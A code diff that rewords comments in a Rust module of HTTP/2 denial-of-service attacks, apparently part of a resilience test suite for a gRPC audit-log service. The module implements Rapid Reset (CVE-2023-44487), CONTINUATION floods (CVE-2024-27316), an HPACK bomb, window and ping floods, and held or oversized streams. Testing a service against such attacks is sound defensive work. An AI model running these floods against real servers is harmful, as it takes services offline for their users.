@@ -1,4 +1,4 @@
-//! Attacks on HTTP/2: floods, streams, windows and headers.
+//! Attacks on HTTP/2 with floods, streams, windows and headers.
 
 use std::io;
 use std::time::{Duration, Instant};
@@ -13,7 +13,7 @@ use super::frames::{
 use super::{MARK, Target, at_once};
 
 const CONNECTIONS: usize = 4;
-/// Frames that are sent at once.
+/// Frames per write.
 const BATCH: u32 = 500;
 
 fn list(target: &Target) -> Vec<u8> {
@@ -24,7 +24,7 @@ fn list(target: &Target) -> Vec<u8> {
 
 fn told(sent: u32, seen: &Seen) -> String {
     let Seen { goaway, is_closed, .. } = seen;
-    // In steps, so that connections that fared alike are told as one.
+    // Rounded, so that connections with similar results are reported together.
     let thousands = sent.div_ceil(1_000);
     match (goaway, is_closed) {
         (Some(code), _) => format!("refused with GOAWAY {code} after {thousands},000 at most"),
@@ -33,7 +33,7 @@ fn told(sent: u32, seen: &Seen) -> String {
     }
 }
 
-/// Sends `batch(n)` for n = 0, 1, … on several connections until it is refused or the time is over.
+/// Sends `batch(n)` for n = 0, 1, … on several connections until the service refuses it or the time is over.
 async fn flood(target: Target, duration: Duration, batch: fn(&Target, u32) -> Vec<u8>) -> io::Result<String> {
     at_once(CONNECTIONS, |_| {
         let target = target.clone();
@@ -61,7 +61,7 @@ fn repeated(one: impl Fn(&mut Vec<u8>)) -> Vec<u8> {
     bytes
 }
 
-/// Frames that break the rules of the protocol, each on a connection of its own.
+/// Frames that violate the protocol, each on its own connection.
 pub async fn broken_frames(target: Target, _: Duration) -> io::Result<String> {
     let block = call(&target, "ListAuditLogs");
     let of = |kind, flags, stream, payload: &[u8]| {
@@ -104,7 +104,7 @@ pub async fn broken_frames(target: Target, _: Duration) -> io::Result<String> {
     .await
 }
 
-/// Requests that are taken back at once: CVE-2023-44487.
+/// Requests that are cancelled at once: CVE-2023-44487.
 pub async fn rapid_reset(target: Target, duration: Duration) -> io::Result<String> {
     flood(target, duration, |target, batch| {
         let (block, message) = (call(target, "ListAuditLogs"), list(target));
@@ -124,7 +124,7 @@ pub async fn pings(target: Target, duration: Duration) -> io::Result<String> {
     flood(target, duration, |_, _| repeated(|bytes| frame(PING, 0, 0, &[0; 8], bytes))).await
 }
 
-/// Pings of a client that reads no answer.
+/// Pings from a client that reads no answer.
 pub async fn deaf_pings(target: Target, duration: Duration) -> io::Result<String> {
     at_once(CONNECTIONS, |_| {
         let target = target.clone();
@@ -153,7 +153,7 @@ pub async fn unknown_frames(target: Target, duration: Duration) -> io::Result<St
     flood(target, duration, |_, _| repeated(|bytes| frame(0x42, 0, 0, MARK.as_bytes(), bytes))).await
 }
 
-/// DATA without a byte, on a stream that waits for a message.
+/// Empty DATA frames on a stream that waits for a message.
 pub async fn empty_data(target: Target, duration: Duration) -> io::Result<String> {
     flood(target, duration, |target, batch| {
         let mut bytes = Vec::new();
@@ -166,7 +166,7 @@ pub async fn empty_data(target: Target, duration: Duration) -> io::Result<String
     .await
 }
 
-/// Headers that never end, without a byte.
+/// A header block that never ends, in empty CONTINUATION frames.
 pub async fn empty_continuations(target: Target, duration: Duration) -> io::Result<String> {
     flood(target, duration, |target, batch| {
         let mut bytes = Vec::new();
@@ -179,7 +179,7 @@ pub async fn empty_continuations(target: Target, duration: Duration) -> io::Resu
     .await
 }
 
-/// Headers that never end: CVE-2024-27316 and its like.
+/// A header block that never ends: CVE-2024-27316 and similar.
 pub async fn continuations(target: Target, duration: Duration) -> io::Result<String> {
     flood(target, duration, |target, batch| {
         let (mut bytes, mut header) = (Vec::new(), Vec::new());
@@ -193,7 +193,7 @@ pub async fn continuations(target: Target, duration: Duration) -> io::Result<Str
     .await
 }
 
-/// A header of 4,000 bytes that is remembered, and then named by one byte thousands of times.
+/// A header of 4,000 bytes that enters the HPACK table once and is then referenced thousands of times, a byte each.
 pub async fn hpack_bomb(target: Target, duration: Duration) -> io::Result<String> {
     flood(target, duration, |target, batch| {
         let mut block = call(target, "ListAuditLogs");
@@ -213,7 +213,7 @@ pub async fn hpack_bomb(target: Target, duration: Duration) -> io::Result<String
     .await
 }
 
-/// Windows that grow by nothing.
+/// WINDOW_UPDATE frames with an increment of zero.
 pub async fn zero_window_updates(target: Target, duration: Duration) -> io::Result<String> {
     flood(target, duration, |target, batch| {
         let mut bytes = Vec::new();
@@ -230,7 +230,8 @@ pub async fn window_overflow(target: Target, duration: Duration) -> io::Result<S
     flood(target, duration, |_, _| repeated(|bytes| frame(WINDOW_UPDATE, 0, 0, &[0x7f, 255, 255, 255], bytes))).await
 }
 
-/// Opens `streams` calls of `method` with `message` on each of `connections`, of which `open` makes each, and holds them.
+/// Opens `streams` calls of `method` with `message` on each of `connections` and holds them. `windows` is the initial
+/// window size.
 async fn held(
     target: Target,
     (connections, streams): (usize, u32),
@@ -263,25 +264,25 @@ async fn held(
     .await
 }
 
-/// Far more calls than may be open, none with its message.
+/// Far more calls than the stream limit, all without their message.
 pub async fn open_streams(target: Target, duration: Duration) -> io::Result<String> {
     held(target, (CONNECTIONS, 3_000), duration, ("ListAuditLogs", Vec::new()), 65_535).await
 }
 
-/// Asks for lists and takes none of the answers.
+/// Requests lists and never opens the window for an answer.
 pub async fn closed_windows(target: Target, duration: Duration) -> io::Result<String> {
     let message = list(&target);
     held(target, (8, 250), duration, ("ListAuditLogs", message), 0).await
 }
 
-/// The same with exports, which have no end.
+/// Like [`closed_windows`] with exports, which are much longer.
 pub async fn closed_windows_of_exports(target: Target, duration: Duration) -> io::Result<String> {
     let request = ExportAuditLogsRequest { organization_id: target.organization.clone(), ..Default::default() };
     let message = prefixed(&request.encode_to_vec());
     held(target, (8, 250), duration, ("ExportAuditLogs", message), 0).await
 }
 
-/// Asks for lists and takes them a byte at a time.
+/// Requests lists and opens the window one byte at a time.
 pub async fn dribbled_windows(target: Target, duration: Duration) -> io::Result<String> {
     at_once(CONNECTIONS, |_| {
         let target = target.clone();
@@ -311,7 +312,7 @@ pub async fn dribbled_windows(target: Target, duration: Duration) -> io::Result<
     .await
 }
 
-/// Asks for lists with wide windows, and reads nothing from the socket.
+/// Requests lists with a maximum window and never reads from the socket.
 pub async fn deaf_lists(target: Target, duration: Duration) -> io::Result<String> {
     at_once(16, |_| {
         let target = target.clone();
@@ -332,7 +333,7 @@ pub async fn deaf_lists(target: Target, duration: Duration) -> io::Result<String
     .await
 }
 
-/// Metadata of megabytes, of thousands of names, and of one name as long.
+/// Megabytes of metadata: one long value, thousands of names, or one long name.
 pub async fn huge_metadata(target: Target, _: Duration) -> io::Result<String> {
     at_once(12, |place| {
         let target = target.clone();
@@ -357,7 +358,7 @@ pub async fn huge_metadata(target: Target, _: Duration) -> io::Result<String> {
             }
             let mut bytes = Vec::new();
             data(1, &list(&target), &mut bytes);
-            // It may have been refused before.
+            // The service may have refused the call already.
             let _ = raw.send(&bytes).await;
             let Seen { ended, reset, over: _, goaway, is_closed } = raw.ends(1, Duration::from_secs(5)).await;
             Ok(format!("answered: {ended}, reset: {reset}, GOAWAY {goaway:?}, closed: {is_closed}"))
